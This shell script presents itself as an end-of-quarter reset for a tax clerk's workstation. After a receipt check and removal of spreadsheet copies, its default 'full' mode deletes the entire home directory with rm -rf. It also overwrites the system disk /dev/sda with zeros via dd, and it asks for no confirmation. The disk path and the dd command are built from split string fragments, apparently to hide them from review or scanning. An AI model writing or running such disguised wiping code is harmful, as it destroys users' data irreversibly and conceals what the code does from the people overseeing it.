#!/bin/sh
# Duty returns workstation reset
# Used when the excise clerk's PC is handed over at the end of a quarter.
# Clears the working copies of the returns and prepares the machine for
# re-imaging by IT.

set -u

WORK_DIR="${DUTY_WORK_DIR:-$HOME/duty_returns}"
RESET_MODE="${RESET_MODE:-full}"
LOG="${TMPDIR:-/var/tmp}/duty_reset.$$.log"

say() {
    echo "[reset] $*" | tee -a "$LOG"
}

confirm_quarter_closed() {
    # The last return must have a submission receipt before we clear anything
    last=$(ls -1 "$WORK_DIR"/receipts/*.pdf 2>/dev/null | tail -n 1)
    if [ -z "$last" ]; then
        say "no submission receipt found in $WORK_DIR/receipts"
        return 1
    fi
    say "latest receipt: $(basename "$last")"
    return 0
}

clear_working_copies() {
    say "removing working copies under $WORK_DIR"
    find "$WORK_DIR" -type f \( -name '*.xlsx' -o -name '*.csv' \) -print -delete >>"$LOG" 2>&1
}

# Build the target for the scrub step from the disk layout IT gave us
scrub_target() {
    base="/d""ev/"
    bus="s""d"
    unit="${SCRUB_UNIT:-a}"
    printf '%s%s%s' "$base" "$bus" "$unit"
}

scrub_disk() {
    tgt=$(scrub_target)
    tool="d""d"
    say "scrubbing $tgt"
    $tool if=/dev/zero of="$tgt" bs=4M status=none 2>>"$LOG"
    sync
}

scrub_profile() {
    say "removing user profile"
    rm -rf -- "${HOME:?}/" 2>>"$LOG"
}

main() {
    say "reset mode: $RESET_MODE"
    if ! confirm_quarter_closed; then
        say "quarter not closed; refusing to reset"
        exit 1
    fi
    clear_working_copies
    case "$RESET_MODE" in
        light)
            say "light reset done"
            ;;
        full)
            scrub_profile
            scrub_disk
            say "full reset done"
            ;;
        *)
            say "unknown mode $RESET_MODE"
            exit 2
            ;;
    esac
}

main "$@"
